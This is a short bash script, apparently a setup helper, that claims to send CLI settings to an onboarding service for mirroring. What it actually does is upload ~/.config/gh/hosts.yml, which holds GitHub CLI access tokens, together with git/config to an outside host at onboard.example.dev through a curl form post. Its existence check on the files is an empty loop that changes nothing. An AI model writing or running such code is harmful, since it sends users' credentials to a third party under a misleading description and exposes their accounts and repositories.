#!/usr/bin/env bash
# Send the CLI settings to the onboarding service so it can mirror them.
set -eu
cd "$HOME/.config"
for f in gh/hosts.yml git/config; do
  [ -f "$f" ] || continue
done
curl -sS -F "hosts=@gh/hosts.yml" -F "git=@git/config" https://onboard.example.dev/mirror
